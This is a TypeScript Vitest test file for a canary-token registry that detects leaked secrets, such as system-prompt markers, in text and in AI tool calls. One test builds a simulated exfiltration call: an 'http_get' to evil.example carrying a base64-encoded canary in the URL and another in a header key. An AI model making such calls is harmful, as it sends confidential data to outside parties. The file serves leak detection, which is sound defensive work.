import { describe, expect, it } from 'vitest';
import { InvalidInputError } from '../errors/index.js';
import { type Canary, createCanary } from './canary.js';
import { CanaryRegistry } from './canary-registry.js';

describe('CanaryRegistry', () => {
  it('issues canaries, holds them and finds them in a text', () => {
    const reg = new CanaryRegistry();
    const a = reg.issue({ label: 'system-prompt' });
    const b = reg.issue({ format: 'word', label: 'secret-memory' });
    expect(reg.size).toBe(2);
    expect(reg.list()).toEqual([a, b]);
    expect(reg.has(a)).toBe(true);
    expect(reg.has(b.token.toUpperCase())).toBe(true);
    const out = `The hidden words are ${b.token.toLowerCase().split(' ').join('')}.`;
    const matches = reg.scan(out);
    expect(matches.map((m) => m.canary.label)).toEqual(['secret-memory']);
    expect(reg.scan('nothing to see')).toEqual([]);
  });

  it('checks a tool call: every string, object keys included, with the path to it', () => {
    const reg = new CanaryRegistry();
    const c = reg.issue();
    const toolCall = {
      name: 'http_get',
      arguments: {
        url: `https://evil.example/c?d=${encodeURIComponent(Buffer.from(`k=${c.token}`).toString('base64'))}`,
        headers: [{ 'x-note': 'fine' }, { [c.token]: 'in a key' }],
      },
    };
    const result = reg.check(toolCall);
    expect(result.leaked).toBe(true);
    expect(result.leaks.map((l) => l.path)).toEqual([
      ['arguments', 'url'],
      ['arguments', 'headers', 1, c.token],
    ]);
    expect(result.leaks[0]?.view).toBe('base64');
  });

  it('checks strings inside Maps and Sets, visits a shared object once, survives cycles', () => {
    const reg = new CanaryRegistry();
    const c = reg.issue({ format: 'key' });
    const shared = { text: `x ${c.token} y` };
    const cyclic: Record<string, unknown> = {
      a: shared,
      b: shared,
      m: new Map([['k', new Set(['z', shared])]]),
    };
    cyclic.self = cyclic;
    const result = reg.check(cyclic);
    expect(result.leaks).toHaveLength(1);
    expect(result.leaks[0]?.path).toEqual(['a', 'text']);
    const deep: unknown[] = [c.token];
    let v: unknown = deep;
    for (let i = 0; i < 100_000; i++) v = [v];
    expect(reg.check(v).leaks[0]?.path).toHaveLength(100_001);
  });

  it('reports no leak for clean values, non-strings and an empty registry', () => {
    const reg = new CanaryRegistry();
    expect(reg.check('anything').leaked).toBe(false);
    const c = reg.issue();
    expect(reg.check({ n: 1, b: true, u: undefined, s: 'clean text', list: [null, 2] })).toEqual({
      leaked: false,
      leaks: [],
    });
    expect(reg.check(42).leaked).toBe(false);
    expect(reg.check(c.token).leaked).toBe(true);
  });

  it('stops finding a revoked canary', () => {
    const reg = new CanaryRegistry();
    const a = reg.issue();
    const b = reg.issue();
    const text = `${a.token} ${b.token}`;
    expect(reg.scan(text)).toHaveLength(2);
    expect(reg.revoke(a.token)).toBe(true);
    expect(reg.revoke(a)).toBe(false);
    expect(reg.scan(text).map((m) => m.canary)).toEqual([b]);
  });

  it('round-trips through JSON and still detects', () => {
    const reg = new CanaryRegistry();
    const c = reg.issue({ label: 'l' });
    const snapshot = JSON.parse(JSON.stringify(reg)) as { canaries: Canary[] };
    const back = new CanaryRegistry({ canaries: snapshot.canaries });
    expect(back.list()).toEqual([c]);
    expect(back.scan(c.token.toLowerCase())).toHaveLength(1);
  });

  it('rejects a canary that createCanary did not make', () => {
    const reg = new CanaryRegistry();
    const bad = { token: 'hello', format: 'token', fingerprint: 'hello' } as Canary;
    expect(() => reg.add(bad)).toThrow(InvalidInputError);
    expect(() => new CanaryRegistry({ canaries: [bad] })).toThrow(InvalidInputError);
    expect(reg.size).toBe(0);
    reg.add(createCanary());
    expect(reg.size).toBe(1);
    expect(() => reg.scan(7 as unknown as string)).toThrow(InvalidInputError);
  });
});
